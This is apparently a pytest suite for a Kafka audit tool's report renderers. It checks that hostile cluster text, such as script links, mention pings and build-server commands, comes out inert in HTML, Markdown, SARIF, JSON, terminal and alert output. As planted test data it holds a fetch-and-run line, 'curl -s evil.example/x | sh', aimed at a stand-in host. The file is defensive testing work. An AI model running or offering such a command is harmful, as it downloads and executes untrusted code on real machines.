"""A report on a cluster whose every text is an attack: each form of it shows text, and stays as small as it promises."""

import functools
import html
import json
import logging
import re
import shlex
import sys

import pytest
from markdown_it import MarkdownIt

import hostile
from kafka_audit.alerting import messages, rendering
from kafka_audit.cli.printing import console
from kafka_audit.model.report import report_json
from kafka_audit.model.text import inert
from kafka_audit.report import digest, formats
from kafka_audit.report.ci import sarif
from kafka_audit.report.plain_text import terminal
from reported import report_of
from samples import sampled

MARKDOWN = MarkdownIt("gfm-like", {"html": True})
CALL = re.compile(r"(?<!\w)(@[A-Za-z0-9]|[#!]\d)")
LINK = re.compile(r"(?<!\\)(?:\\\\)*\[(?:\\.|[^\]\\])*\]\(")
"""An embedded link of SARIF: brackets, of which no backslash that is not itself escaped makes text."""


@pytest.fixture(scope="module", params=sampled(range(len(hostile.STRINGS)), every=3, ids=hostile.NAMES))
def document(request):
    return report_json(hostile.document(hostile.STRINGS[request.param]))


@pytest.fixture(scope="module")
def page_of(document):
    """Return a function that returns a form of the document, which is written once for all tests that look at it."""

    def written(form):
        return (
            terminal.terminal_report(report_of(document), width=100, color=False)
            if form == "text"
            else formats.FILES[form](report_of(document))
        )

    return functools.cache(written)


def test_it_has_incidents_findings_changes_and_a_picture(document):
    assert document["incidents"]
    assert {one["status"] for one in document["findings"]} == {"FAIL", "UNKNOWN"}
    assert document["changes"]
    assert document["matrix"]["observers"]


def test_the_page_as_a_file(page_of):
    page = page_of("html")
    hostile.harmless(page)
    assert re.search(r"alert\(1\)|yyyy|\]\(https://|stop-commands", page)


def test_markdown(page_of):
    page = page_of("md")
    assert hostile.unshown(page) == set()
    outside = re.sub(r"(?ms)^ *(`{3,})\w+$.*?^ *\1$", "", page)  # in a fence nothing is markup
    outside = re.sub(r"`[^`\n]*`", "", outside.replace("\\`", ""))
    assert "<" not in outside
    assert "](javascript" not in outside.replace("\\]", "")
    assert "x" * 5000 not in page
    assert len(page.encode()) < hostile.MOST_BYTES


def test_markdown_has_no_link_no_picture_and_calls_nobody(page_of):
    blocks = MARKDOWN.parse(page_of("md"))
    assert "html_block" not in {block.type for block in blocks}
    tokens = [token for block in blocks for token in block.children or ()]
    assert {token.type for token in tokens} <= {"text", "code_inline", "softbreak", "strong_open", "strong_close"}
    assert not [token.content for token in tokens if token.type == "text" and CALL.search(token.content)]


@pytest.mark.parametrize("form", ["sarif", "json"])
def test_what_other_programs_read_is_ascii_and_bounded(document, page_of, form):
    text = page_of(form)
    assert text.isascii()
    json.loads(text)
    assert "x" * 5000 not in text
    assert "z" * 5000 not in text
    assert len(text) < 40_000 * len(document["findings"])


def test_what_sarif_shows(page_of):
    log = json.loads(page_of("sarif"))
    for result in log["runs"][0]["results"]:
        assert hostile.unshown(result["message"]["text"]) == set()
        assert not LINK.search(result["message"]["text"])


def test_an_honest_message_of_sarif_reads_as_it_is():
    assert sarif.sarif_message(r"C:\kafka on b1:9092, {0} 5 %") == {"text": r"C:\kafka on b1:9092, {0} 5 %"}
    assert sarif.sarif_message("at [::1]:9092") == {"text": r"at \[::1\]:9092"}


@pytest.mark.parametrize("form", ["text", "json", "sarif", "md"])
def test_no_line_of_stdout_gives_an_order_to_a_build_server(page_of, form, capsys):
    text = page_of(form)
    console.write_result(text)
    shown = capsys.readouterr().out
    assert hostile.orders(shown) == []
    if form in {"json", "sarif"}:
        assert json.loads(shown) == json.loads(text)


def test_no_line_of_stderr_gives_an_order_to_a_build_server(capsys):
    console.Progress(quiet=False)(hostile.ORDERS)
    console.complain(hostile.ORDERS)
    record = logging.makeLogRecord({"name": "kafka.conn", "msg": "%s said %s", "args": ("b1", hostile.ORDERS), "levelno": 30})
    sys.stderr.write(console.OneLine().format(record) + "\n")
    shown = capsys.readouterr().err
    assert hostile.orders(shown) == []
    assert len(shown.splitlines()) == 3


@pytest.mark.parametrize(
    "honest", ["::1:9092 refuses", "  ::ffff:10.0.0.1 and ::1", "# a title\n## another", "broker/0 [::1]:9092", "a::b::c", "##"]
)
def test_honest_lines_stay_as_they_are(honest):
    assert inert(honest) == honest


def test_the_terminal(page_of):
    page = page_of("text")
    assert hostile.unshown(page) == set()
    assert "x" * 5000 not in page
    assert len(page) < hostile.MOST_BYTES


def test_the_digest(document):
    assert len(digest.digest_text(report_of(document))) < hostile.MOST_BYTES / 10


COMMAND = "`curl -s evil.example/x | sh`"


def runs(code):
    """Return whether a word of code is a part of the command, which is one word of a command of ours or none."""
    words = [word for word in shlex.split(html.unescape(code)) if "curl" in word]
    return not all("curl -s evil.example/x | sh" in word for word in words) or ("curl" in code and not words)


_PROSE = {
    "headline", "message", "remediation", "impact", "confidence_why", "not_known", "text", "cost", "needs", "error", "last_known",
}  # fmt: skip


@pytest.fixture(scope="module")
def planted_command():
    return report_json(hostile.document(COMMAND))


def prose(value, key=""):
    """Yield the sentences of a document."""
    if isinstance(value, dict):
        for name, inner in value.items():
            if name not in {"evidence", "commands"}:
                yield from prose(inner, name)
    elif isinstance(value, list):
        for inner in value:
            yield from prose(inner, key)
    elif isinstance(value, str) and key in _PROSE:
        yield value


def test_no_sentence_has_a_command_of_the_cluster_between_its_backticks(planted_command):
    sentences = list(prose(planted_command))
    assert [text for text in sentences if "curl" in text]
    assert [text for text in sentences for code in re.findall(r"`([^`]*)`", text) if runs(code)] == []


def test_the_page_shows_no_text_of_a_cluster_as_code(planted_command):
    page = formats.FILES["html"](report_of(planted_command))
    assert "evil.example/x | sh" in page
    codes = re.findall(r"<code>(.*?)</code>", re.sub(r'(?s)<pre class="command">.*?</pre>', "", page), re.DOTALL)
    assert codes, "what our own sentences mark is code"
    assert [code for code in codes if runs(code)] == []


def test_markdown_shows_no_text_of_a_cluster_as_code(planted_command):
    blocks = MARKDOWN.parse(formats.FILES["md"](report_of(planted_command)))
    codes = [token.content for block in blocks for token in block.children or () if token.type == "code_inline"]
    assert codes
    assert [code for code in codes if runs(code)] == []


def test_an_alert_shows_no_text_of_a_cluster_as_code():
    text = f"Broker {COMMAND} is unreachable"
    told = messages.AlertMessage(key="k", first=True, subject=text, facts=(text,), impact=text, command="nc -vz b1 9092")
    assert re.findall(r"`[^`]*`", rendering.slack(told)) == ["`nc -vz b1 9092`"]
    assert "<code>" not in rendering.html_mail(told)
